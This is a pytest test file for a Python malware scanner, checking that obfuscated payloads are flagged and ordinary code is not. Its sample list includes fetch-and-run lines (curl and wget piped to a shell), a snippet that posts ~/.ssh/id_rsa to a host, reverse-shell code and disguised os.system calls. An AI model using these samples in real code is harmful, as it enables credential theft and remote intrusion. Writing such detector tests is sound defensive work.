"""Python source text: payloads are told wherever they lie, ordinary programs never; any text is read within bounds."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.formats.python_code.capabilities import may_matter
from scanner.formats.python_source import FORMAT
from scanner.model.fact import Fact, Gap
from scanner.model.place import Place
from tests.readers import reader_of


def read(text: str | bytes, path: str = "m.py") -> list[Fact]:
    data = text.encode() if isinstance(text, str) else text
    found = list(FORMAT.parse(Place(path), reader_of(data)))
    assert not any(isinstance(item, Gap) for item in found)
    return [item for item in found if isinstance(item, Fact)]


def payloads(text: str | bytes, path: str = "m.py") -> list[str]:
    return [str(found.get("does")) for found in read(text, path) if found.kind == "python-payload"]


def code(text: str) -> Fact | None:
    return next((found for found in read(text) if found.kind == "python-code"), None)


PAYLOADS = [
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "from base64 import b64decode as d\nx = d('cHJpbnQoMSk=')\nexec(x)\n",
    "import zlib, marshal, base64\nc = base64.b64decode('eJw=')\nd = zlib.decompress(c)\nexec(marshal.loads(d))\n",
    "import urllib.request\nexec(urllib.request.urlopen('http://example.com/p.py').read())\n",
    "import requests\nr = requests.get('http://example.com')\nexec(r.text)\n",
    "import os\nos.system('curl http://example.com/x | sh')\n",
    "import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- http://example.com/x | bash'])\n",
    "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://example.com', data=k)\n",  # noqa: E501
    "import socket, os, pty\ns = socket.socket()\ns.connect(('127.0.0.1', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",  # noqa: E501
    "def f():\n  import socket, subprocess, os\n  s = socket.socket()\n  os.dup2(s.fileno(), 0)\n  subprocess.call(['/bin/sh', '-i'])\n",  # noqa: E501
    "__import__('os').system('true')\n",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
    "import builtins\ngetattr(builtins, 'cexe'[::-1])('print(1)' * n)\n",
    "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('true')\n",
    "import sys\nsys.modules['os'].system('true')\n",
    "import os\nvars(os)['system']('true')\n",
    "import os\nos.__dict__['sys' 'tem']('true')\n",
    "exec(\"import os; os.system('true')\")\n",
    "def go():\n  import base64\n  exec(base64.b64decode('cHJpbnQoMSk='))\ngo()\n",
    "class A:\n  def __init__(self):\n    import base64\n    exec(base64.b64decode('cHJpbnQoMSk='))\n",
    b"# -*- coding: utf-7 -*-\n+AG8-s\n",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_payload_is_told(text: str | bytes) -> None:
    assert payloads(text)


ORDINARY = [
    "import subprocess\n\ndef f(x):\n  return subprocess.check_output(x)\n",
    "import pickle, requests\n\ndef f(u):\n  return pickle.loads(requests.get(u).content)\n",
    "def f(source):\n  exec(compile(source, 'x', 'exec'), {})\n",
    "import os\nif __name__ == '__main__':\n  os.system('true')\n",
    "import os, sys\nif sys.argv[-1] == 'publish':\n  os.system('python setup.py sdist upload')\n",
    "import base64\nICON = base64.b64decode('cHJpbnQoMSk=')\n",
    "from importlib import import_module\nm = import_module('pkg.' + name)\n",
    "import os\nTOKEN = os.environ['HF_TOKEN']\n",
    "model.eval()\ncursor.execute('x')\nre.compile('x')\n",
    "import ctypes\nlib = ctypes.CDLL('libc.so.6')\n",
    "print 'an old program'\nexec 'x'\n",
    "# " + "-" * 1000 + "\nimport os\nos.system\n",
    "import subprocess\nVERSION = subprocess.check_output(['git', 'describe'])\n",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_program_is_no_payload(text: str) -> None:
    assert payloads(text) == []


@pytest.mark.parametrize(
    ("text", "at_import", "at_construct"),
    [
        ("import os as o\no.system('true')\n", ("runs other programs",), ()),
        ("from os import system as s\ns('true')\n", ("runs other programs",), ()),
        ("import os\nf = os.system\nf('true')\n", ("runs other programs",), ()),
        ("import os\nclass A:\n  x = os.popen('true')\n", ("runs other programs",), ()),
        ("import os\ndef f(a=os.system('true')): pass\n", ("runs other programs",), ()),
        ("import os\ndef f(): os.system('true')\ndef g(): f()\ng()\n", ("runs other programs",), ()),
        ("import os\nclass A:\n  def __init__(self): self.go()\n  def go(self): os.system('true')\n", (), ("runs other programs",)),  # noqa: E501
        ("import os\nclass A:\n  def __init__(self): os.system('true')\nA()\n", ("runs other programs",), ()),
        ("import os\nos.system('git status')\n", (), ()),
        ("x = eval(input())\n", ("runs code from text or data",), ()),
        ("x = eval('1 + 1')\n", (), ()),
        ("𝐞𝐱𝐞𝐜(x)\n", ("runs code from text or data",), ()),
        ("import torch\ntorch.load('x', weights_only=False)\n", ("unpickles data",), ()),
        ("open('/tmp/x', 'w').write('x')\n", ("writes or removes files",), ()),
    ],
)  # fmt: skip
def test_a_use_counts_for_the_moment_it_runs(
    text: str, at_import: tuple[str, ...], at_construct: tuple[str, ...]
) -> None:
    found = code(text)
    assert ((found.get("at_import") or (), found.get("at_construct") or ()) if found else ((), ())) == (
        at_import,
        at_construct,
    )


def test_a_calm_program_is_not_parsed_and_its_relative_imports_are_known() -> None:
    text = "import torch\nfrom .parts import Head\nfrom . import more, other as o  # why\n"
    assert not may_matter(text.encode())
    found = code(text)
    assert found is not None
    assert {".parts", ".parts.Head", ".", ".more"} <= set(found.get("imports"))  # type: ignore[arg-type]
    assert read("import torch\nx = 1\n") == []


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("import os\nfrom setuptools import setup\nos.system('true')\nsetup()\n", True),
        ("import subprocess\nsubprocess.Popen('touch /tmp/x', shell=True)\n", True),
        ("import os\nfrom setuptools.command.install import install\nclass P(install):\n  def run(self): os.system('true')\n", True),  # noqa: E501
        ("import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n  def run(self): subprocess.call(['cmake'])\n", False),  # noqa: E501
        ("exec(open('version.py').read())\n", False),
        ("import subprocess\nv = subprocess.check_output(['git', 'describe'])\n", False),
    ],
)  # fmt: skip
def test_setup_scripts_are_judged_by_what_installing_runs(text: str, told: bool) -> None:
    assert any(found.kind == "install-script" for found in read(text, "setup.py")) == told


@pytest.mark.parametrize(
    "text",
    [
        "exec(" + "(" * 5000 + ")" * 5000 + ")",
        "exec(" + "-" * 100_000 + "1)",
        "exec(x)\n" + "x = " + "not " * 50_000 + "1",
        "exec(x)\nx = " + "a." * 100_000 + "b",
        "exec(x)\nx = " + "a + " * 100_000 + "b",
        "exec(x)\nx = " + "[" * 100_000,
        "exec(x)\nx = " + "f(" * 150 + ")" * 150,
        "exec(x)\n" + "a = a + a\n" * 20_000,
        "exec(x)\na = '" + "x" * 60_000 + "'\n" + "a = a + a\n" * 5_000,
        "exec(x)\nx = [" + "1," * 600_000 + "]",
        "exec(x)\n" + "vars(" * 90 + "os" + ")['a']" * 90,
        "exec(x)\n" + "".join(" " * i + "if x:\n" for i in range(99)) + " " * 99 + "pass\n",
        "exec(x)\nif x:\n  pass\n" + "elif x:\n  pass\n" * 20_000,
        "exec(x)\n" + "lambda: " * 20_000 + "x",
        "exec('\0')\n",
    ],
)
def test_hostile_text_ends_in_time(text: str) -> None:
    start = time.process_time()
    read(text)
    assert time.process_time() - start < 8


SEEDS = [text if isinstance(text, bytes) else text.encode() for text in [*PAYLOADS, *ORDINARY]]


@given(st.sampled_from(SEEDS), st.lists(st.tuples(st.integers(0, 400), st.binary(max_size=6)), max_size=6))
@settings(max_examples=200, deadline=None)
def test_any_text_is_read(seed: bytes, changes: list[tuple[int, bytes]]) -> None:
    for at, put in changes:
        seed = seed[:at] + put + seed[at + len(put) :]
    for found in FORMAT.parse(Place("m.py"), reader_of(seed)):
        assert isinstance(found, Fact | Gap)
